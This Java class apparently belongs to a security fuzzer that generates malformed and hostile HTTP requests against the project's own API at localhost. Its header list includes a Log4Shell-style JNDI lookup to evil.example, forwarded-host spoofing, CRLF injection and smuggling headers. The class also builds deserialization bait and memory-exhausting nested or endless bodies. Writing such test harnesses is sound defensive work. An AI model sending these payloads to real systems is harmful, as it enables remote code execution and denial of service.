package org.tandem.attack;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.core.json.JsonWriteFeature;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.json.JsonMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.ByteArrayOutputStream;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import org.jspecify.annotations.Nullable;

/**
 * Requests made from the description the application gives of itself: every operation in turn, by every role, each odd in one
 * way that chance picks. Half of the values are ones that are taken, so that what is odd gets past the first check.
 */
final class Attacks {

    private static final int LARGEST_LIST = 4_000_000;
    private static final JsonNodeFactory JSON = JsonNodeFactory.instance;
    private static final ObjectMapper WRITER =
            JsonMapper.builder().enable(JsonWriteFeature.ESCAPE_NON_ASCII).build();
    private static final String BOUNDARY = "a-boundary";
    private static final int ENDLESS = 4_000;
    private static final byte[] CHUNK = chunk("[{},{},".repeat(2_000) + "[".repeat(2_000));

    private static final List<String> TYPES = List.of(
            "*/*",
            "text/html",
            "application/xml",
            "application/json; charset=nonsense",
            "application/*",
            "/",
            ";",
            "",
            "multipart/form-data",
            "multipart/form-data; boundary=",
            "application/x-www-form-urlencoded",
            "application/json;charset=utf-16",
            "text/plain",
            "application/problem+json",
            "image/svg+xml",
            "\u0001");

    private static final List<String> HEADERS = List.of(
            "Accept: text/html",
            "Accept: image/svg+xml",
            "Accept: */*;q=x",
            "Accept: \u0001",
            "Accept: application/xml",
            "Accept-Language: " + "fr,".repeat(500),
            "Accept-Language: ../../x",
            "Accept-Language: \u0001;q=9",
            "Forwarded: for=127.0.0.1;host=evil.example;proto=https",
            "Forwarded: for=\"",
            "X-Forwarded-For: " + "1,".repeat(900),
            "X-Forwarded-Host: evil.example",
            "X-Forwarded-Prefix: /a\u0001b",
            "X-Forwarded-Prefix: //evil.example",
            "X-Forwarded-Port: x",
            "X-Forwarded-Proto: javascript",
            "X-Original-URL: /operations",
            "X-Rewrite-URL: /people",
            "Origin: https://evil.example",
            "Origin: null",
            "Referer: https://evil.example/" + HostileTexts.MARK,
            "Cookie: SESSION=" + HostileTexts.MARK,
            "Cookie: SESSION=AAAA; SESSION=\u0001; language=zz; REDIRECT_URI=Y\r\n X",
            "Cookie: REDIRECT_URI=aHR0cHM6Ly9ldmlsLmV4YW1wbGUvDQpY",
            "Cookie: " + "a=b; ".repeat(1_000),
            "Range: bytes=0-0,1-1,2-2",
            "If-Modified-Since: x",
            "If-None-Match: \"" + HostileTexts.MARK,
            "Expect: 100-continue",
            "Content-Encoding: gzip",
            "X-HTTP-Method-Override: DELETE",
            "HX-Request: true",
            "HX-Current-URL: javascript:1",
            "Sec-Fetch-Site: cross-site",
            "User-Agent: <" + HostileTexts.MARK + ">${jndi:ldap://evil.example/}",
            "X-Long: " + "x".repeat(7_000),
            "X-Longer: " + "x".repeat(70_000),
            "Traceparent: 00-" + HostileTexts.MARK,
            "Content-Length: -1",
            "Content-Length: 99999999999999999999",
            "Transfer-Encoding: nonsense",
            "Host:",
            "Upgrade: h2c");

    private static final List<String> NUMBERS = List.of(
            "1E999999999",
            "-1E999999999",
            "1E-999999999",
            "9".repeat(5_000),
            "0." + "1".repeat(5_000),
            "NaN",
            "Infinity",
            "-0",
            "00",
            "0x1",
            "2147483648",
            "-9223372036854775809",
            "1.5");

    private static final List<String> BROKEN = List.of(
            "",
            " ",
            "{",
            "[",
            "\"",
            "nul",
            "{\"a\":1,\"a\":2}",
            "{\"a\":1}}",
            "[]",
            "[[]]",
            "null",
            "true",
            "1",
            "\"text\"",
            "\ufeff{}",
            "{\"\":{}}",
            "{'a':1}",
            "{\"a\":\"\u0000\"}",
            "{\"a\":\"\\u0000\"}",
            "{\"a\":\"\\ud800\"}",
            "/*x*/{}");

    private final JsonNode document;
    private final Random random;
    private final List<Operation> operations = new ArrayList<>();
    private final List<String> people;
    private final List<String> cases;
    private final Map<String, String> known;
    private final List<Map.Entry<String, byte[]>> files =
            List.copyOf(HostileFiles.all().entrySet());

    private record Operation(String method, String path, JsonNode description) {}

    /** @param known what exists, by the name of a parameter or field */
    Attacks(JsonNode document, Random random, List<String> people, List<String> cases, Map<String, String> known) {
        this.document = document;
        this.random = random;
        this.people = people;
        this.cases = cases;
        this.known = known;
        document.get("paths").fields().forEachRemaining(path -> path.getValue()
                .fields()
                .forEachRemaining(operation -> operations.add(new Operation(
                        operation.getKey().toUpperCase(Locale.ROOT), path.getKey(), operation.getValue()))));
    }

    int operations() {
        return operations.size();
    }

    /** Always the same for the same number. */
    synchronized Attack number(int number, long seed) {
        random.setSeed(31 * seed + number);
        random.nextInt();
        Operation operation = operations.get(number % operations.size());
        JsonNode content = operation.description().at("/requestBody/content");
        boolean uploads = isUpload(content);
        return switch (content.isMissingNode()
                ? random.nextInt(4)
                : uploads ? 4 + random.nextInt(3) : random.nextInt(14)) {
            case 0 -> with("odd header", operation, List.of(pick(HEADERS)), json(operation));
            case 1 -> with("two odd headers", operation, List.of(pick(HEADERS), pick(HEADERS)), json(operation));
            case 2 -> with("odd parameters", operation, List.of(), json(operation), true);
            case 3 ->
                new Attack(
                        "odd method",
                        pick(List.of(
                                "TRACE",
                                "PATCH",
                                "CONNECT",
                                "PROPFIND",
                                "get",
                                "HEAD",
                                "OPTIONS",
                                "PUT",
                                "DELETE",
                                "(")),
                        target(operation, false),
                        headers("application/json", List.of()),
                        new byte[0],
                        1);
            case 4, 5 ->
                uploads
                        ? upload(operation)
                        : with("wrong type", operation, List.of(), bytes(wrongType(schema(content), 0)));
            case 6 -> typed("odd content type", operation, pick(TYPES), json(operation));
            case 7, 8 -> with("hostile text", operation, List.of(), bytes(hostile(schema(content), 0)));
            case 9 -> with("number", operation, List.of(), withNumber(schema(content)));
            case 10 -> with("broken JSON", operation, List.of(), pick(BROKEN).getBytes(StandardCharsets.UTF_8));
            case 11 -> with("deep", operation, List.of(), deep());
            case 12 ->
                with("characters that are none", operation, List.of(), new byte[] {'{', '"', (byte) 0xC3, '"', '}'});
            default ->
                random.nextInt(8) == 0
                        ? endless(operation)
                        : typed("form", operation, "application/x-www-form-urlencoded", form());
        };
    }

    private Attack endless(Operation operation) {
        List<String> headers = new ArrayList<>(headers("application/json", List.of()));
        headers.add("Transfer-Encoding: chunked");
        return new Attack("endless body", operation.method(), target(operation, false), headers, CHUNK, ENDLESS);
    }

    private Attack upload(Operation operation) {
        Map.Entry<String, byte[]> file = pick(files);
        String field = schema(operation.description().at("/requestBody/content"))
                .at("/properties")
                .fieldNames()
                .next();
        String name = oneLine(pick(HostileTexts.ALL));
        ByteArrayOutputStream body = new ByteArrayOutputStream();
        body.writeBytes(("--" + BOUNDARY + "\r\nContent-Disposition: form-data; name=\"" + field + "\"; filename=\""
                        + name.substring(0, Math.min(name.length(), 5_000)).replace("\"", "%22")
                        + "\"\r\nContent-Type: " + pick(List.of("text/html", "application/pdf", "image/svg+xml", "x"))
                        + "\r\n\r\n")
                .getBytes(StandardCharsets.UTF_8));
        body.writeBytes(file.getValue());
        body.writeBytes(
                ("\r\n--" + BOUNDARY + (random.nextInt(9) == 0 ? "" : "--\r\n")).getBytes(StandardCharsets.UTF_8));
        return typed(
                "file, " + file.getKey(), operation, "multipart/form-data; boundary=" + BOUNDARY, body.toByteArray());
    }

    private Attack with(String kind, Operation operation, List<String> more, byte[] body) {
        return with(kind, operation, more, body, false);
    }

    private Attack with(String kind, Operation operation, List<String> more, byte[] body, boolean oddTarget) {
        List<String> headers = new ArrayList<>(headers("application/json", more));
        String named = more.isEmpty()
                ? kind
                : kind + " " + more.stream().map(Attacks::shortened).toList();
        boolean own = more.stream().anyMatch(line -> line.startsWith("Content-Length") || line.startsWith("Transfer"));
        if (!own) {
            headers.add("Content-Length: " + body.length);
        }
        return new Attack(
                own ? "broken transfer, " + named : named,
                operation.method(),
                target(operation, oddTarget),
                headers,
                body,
                1);
    }

    private static String shortened(String line) {
        return line.length() > 60 ? line.substring(0, 60) + "…" : line;
    }

    private Attack typed(String kind, Operation operation, String type, byte[] body) {
        List<String> headers = new ArrayList<>(headers(type, List.of()));
        headers.add("Content-Length: " + body.length);
        return new Attack(kind + " " + type, operation.method(), target(operation, false), headers, body, 1);
    }

    private List<String> headers(String type, List<String> more) {
        List<String> headers = new ArrayList<>();
        if (more.stream().noneMatch(line -> line.startsWith("Host"))) {
            headers.add("Host: localhost");
        }
        headers.add("Connection: close");
        headers.add("Content-Type: " + type);
        if (random.nextInt(10) > 0) {
            headers.add("Authorization: Basic "
                    + Base64.getEncoder().encodeToString((pick(people) + ":tandem").getBytes(StandardCharsets.UTF_8)));
        }
        headers.addAll(more);
        return headers;
    }

    private String target(Operation operation, boolean odd) {
        String path = operation.path();
        List<String> query = new ArrayList<>();
        for (JsonNode parameter : operation.description().path("parameters")) {
            String name = parameter.get("name").asText();
            boolean oddOne = odd && random.nextBoolean();
            String value = oddOne ? encoded(pick(HostileTexts.ALL)) : encoded(value(name));
            if (parameter.get("in").asText().equals("path")) {
                path = path.replace("{" + name + "}", oddOne && value.isEmpty() ? "%20" : value);
            } else if (oddOne || random.nextInt(3) == 0) {
                query.add(name + "=" + value);
            }
        }
        if (odd && random.nextInt(4) == 0) {
            query.add(pick(List.of(
                    "size=2147483648", "page=-1", "sort=;drop", "lang=../x", "a[2000000000].b=1", "%00", "%", "%zz")));
        }
        return path + (query.isEmpty() ? "" : "?" + String.join("&", query));
    }

    private String value(String name) {
        return name.equals("caseId") ? pick(cases) : known.getOrDefault(name, name.equals("page") ? "1" : "VNM");
    }

    private static boolean isUpload(JsonNode content) {
        return content.toString().contains("\"binary\"");
    }

    private byte[] json(Operation operation) {
        JsonNode content = operation.description().at("/requestBody/content");
        return content.isMissingNode() || isUpload(content) ? new byte[0] : bytes(fitting(schema(content), null, 0));
    }

    private JsonNode schema(JsonNode content) {
        return resolve(content.elements().next().path("schema"));
    }

    private JsonNode resolve(JsonNode schema) {
        String reference = schema.path("$ref").asText();
        return reference.isEmpty() ? schema : document.at(reference.substring(1));
    }

    /** What the description asks for, with values that exist where their names are known. */
    private JsonNode fitting(JsonNode schema, @Nullable String name, int depth) {
        if (depth > 6) {
            return JSON.nullNode();
        }
        return switch (schema.path("type").asText()) {
            case "object" -> {
                ObjectNode object = JSON.objectNode();
                schema.path("properties")
                        .fields()
                        .forEachRemaining(field -> object.set(
                                field.getKey(), fitting(resolve(field.getValue()), field.getKey(), depth + 1)));
                if (schema.has("additionalProperties")) {
                    object.put(
                            name == null ? "decision" : "A3",
                            name == null ? pick(List.of("AGREE", "APPROVE", "RETURN")) : "COHERENCE");
                    object.put("reason", "It fits");
                }
                yield object;
            }
            case "array" -> JSON.arrayNode().add(fitting(resolve(schema.path("items")), name, depth + 1));
            case "integer", "number" -> JSON.numberNode(random.nextInt(3));
            case "boolean" -> JSON.booleanNode(random.nextBoolean());
            default ->
                JSON.textNode(
                        schema.path("enum").isEmpty()
                                ? value(name == null ? "" : name)
                                : schema.get("enum").get(0).asText());
        };
    }

    /** The same with hostile text in the place of every text. */
    private JsonNode hostile(JsonNode schema, int depth) {
        return changed(fitting(schema, null, depth), true);
    }

    private JsonNode wrongType(JsonNode schema, int depth) {
        return changed(fitting(schema, null, depth), false);
    }

    /** @param text hostile text for some of the texts, or something of another type for some of the values */
    private JsonNode changed(JsonNode value, boolean text) {
        if (value instanceof ObjectNode object) {
            List<String> names = new ArrayList<>();
            object.fieldNames().forEachRemaining(names::add);
            names.forEach(name -> object.set(name, changed(object.get(name), text)));
            if (!text && random.nextInt(6) == 0) {
                object.set(pick(HostileTexts.ALL), JSON.textNode(HostileTexts.MARK));
            }
        } else if (value instanceof ArrayNode array) {
            for (int i = 0; i < array.size(); i++) {
                array.set(i, changed(array.get(i), text));
            }
            if (random.nextInt(4) == 0) {
                JsonNode again = array.isEmpty() ? JSON.nullNode() : array.get(0);
                // A list in a list, both so long, would fill the memory of whoever sends it.
                int copies = Math.min(3_000, LARGEST_LIST / again.toString().length());
                for (int i = 0; i < copies; i++) {
                    array.add(again);
                }
            }
        }
        if (text) {
            return value.isTextual() && random.nextBoolean() ? JSON.textNode(pick(HostileTexts.ALL)) : value;
        }
        return random.nextInt(3) == 0 ? other() : value;
    }

    private JsonNode other() {
        return switch (random.nextInt(6)) {
            case 0 -> JSON.nullNode();
            case 1 -> JSON.booleanNode(true);
            case 2 -> JSON.numberNode(-1.5);
            case 3 -> JSON.arrayNode().add(JSON.objectNode());
            case 4 -> JSON.objectNode().put("class", "java.lang.Runtime").put("@type", HostileTexts.MARK);
            default -> JSON.textNode(pick(HostileTexts.ALL));
        };
    }

    private byte[] withNumber(JsonNode schema) {
        String json = new String(bytes(fitting(schema, null, 0)), StandardCharsets.UTF_8);
        return json.replaceFirst(":(\"[^\"]*\"|[0-9]+)", ":" + pick(NUMBERS)).getBytes(StandardCharsets.UTF_8);
    }

    private byte[] deep() {
        String open = random.nextBoolean() ? "[" : "{\"a\":";
        return open.repeat(20 + random.nextInt(20_000)).getBytes(StandardCharsets.UTF_8);
    }

    private byte[] form() {
        StringBuilder form = new StringBuilder("decision=AGREE");
        for (int i = random.nextInt(2) * 15_000; i >= 0; i--) {
            form.append("&a").append(i).append('=').append(encoded(i == 0 ? pick(HostileTexts.ALL) : "b"));
        }
        return form.append("&%00=%00&\u0001=\u0002&%=%zz").toString().getBytes(StandardCharsets.UTF_8);
    }

    private <T> T pick(List<T> from) {
        return from.get(random.nextInt(from.size()));
    }

    private static String encoded(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private static String oneLine(String text) {
        return text.replaceAll("[\\r\\n\\u2028\\u2029\\u0085\\u000b]", " ");
    }

    private static byte[] bytes(JsonNode json) {
        try {
            return WRITER.writeValueAsString(json).getBytes(StandardCharsets.UTF_8);
        } catch (JsonProcessingException impossible) {
            throw new IllegalStateException(impossible);
        }
    }

    private static byte[] chunk(String text) {
        return (Integer.toHexString(text.length()) + "\r\n" + text + "\r\n").getBytes(StandardCharsets.US_ASCII);
    }
}
